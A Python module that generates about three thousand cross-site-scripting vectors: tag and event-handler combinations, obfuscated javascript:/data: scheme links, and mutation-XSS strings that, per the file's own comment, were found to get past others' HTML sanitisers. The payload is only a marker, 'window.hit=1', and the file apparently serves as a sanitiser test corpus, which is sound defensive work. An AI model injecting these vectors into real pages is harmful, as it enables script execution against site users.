"""Hostile markup, made of tags, handlers and the ways to hide one in the other."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HIT = "window.hit=1"
TAGS = (
    *("img", "svg", "iframe", "video", "audio", "details", "input", "object"),
    *("embed", "math", "style", "link", "form", "button", "select", "textarea"),
    *("table", "td", "a", "p", "div", "template", "noscript", "xmp", "title"),
    *("blockquote", "figure", "data", "cite", "body"),
)
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover"),
    *("onanimationstart", "onpointerenter", "onbegin", "onscroll", "oncut", "onpaste"),
)
# How a handler stands in a tag, or a tag in others, so that one reader takes it for
# words and another for markup.
FORMS = (
    '<{tag} src=x open autofocus {on}="{hit}">x</{tag}>',
    "<{tag}/src=x/{on}={hit}>",
    "<{TAG} sRc=x {on}\n=\t'{hit}'>",
    '<p title="</p><{tag} src=x {on}={hit}>">x</p>',
    "<svg><{tag} src=x {on}={hit}></{tag}></svg>",
    "<math><mtext><{tag} src=x {on}={hit}></{tag}></mtext></math>",
    "<table><style><!--</style><{tag} src=x {on}={hit}>--></table>",
    "<noscript><p title='</noscript><{tag} src=x {on}={hit}>'></noscript>",
    "<cite data-source='\"><{tag} src=x {on}={hit}>'>x</cite>",
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "jav&#x09;ascript:"),
    *(" javascript:", "\x01javascript:", "vbscript:", "data:text/html,"),
    *("data:text/html;base64,", "feed:javascript:", "javascript&colon;"),
)
LINKS = (
    '<a href="{scheme}{hit}">x</a>',
    '<a xlink:href="{scheme}{hit}">x</a>',
    '<form action="{scheme}{hit}"><button>x</button></form>',
    '<iframe src="{scheme}{hit}"></iframe>',
    '<img src="{scheme}{hit}">',
    '<object data="{scheme}{hit}"></object>',
    '<blockquote cite="{scheme}{hit}">x</blockquote>',
    '<p style="background:url({scheme}{hit})">x</p>',
)
HIDDEN = '<img title="--&gt;&lt;img src=1 onerror={hit}&gt;">'
# What was found in sanitisers of others: text that another parser reads as markup.
MUTATIONS = (
    "<script>{hit}</script>",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><!--</style>" + HIDDEN,
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={hit}>",
    "<svg></p><style><a id='</style><img src=1 onerror={hit}>'>",
    "<svg><style>&lt;img src=x onerror={hit}&gt;</style></svg>",
    "<template><style></template><img src=x onerror={hit}></style>",
    "<select><template><style></select><img src=x onerror={hit}></style>",
    "<xmp><p title='</xmp><img src=x onerror={hit}>'>",
    "<p>&lt;img src=x onerror={hit}&gt;</p>",
    "<a href='//\x00javascript:{hit}'>x</a>",
    "<base href='javascript:/a/'><a href='#{hit}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({hit})}}'>",
)


def vectors() -> Iterator[str]:
    """Yield each of them once, some three thousand."""
    for form, tag, handler in product(FORMS, TAGS, HANDLERS):
        yield form.format(tag=tag, TAG=tag.upper(), on=handler, hit=HIT)
    for form, scheme in product(LINKS, SCHEMES):
        yield form.format(scheme=scheme, hit=HIT)
    for form in MUTATIONS:
        yield form.format(hit=HIT)
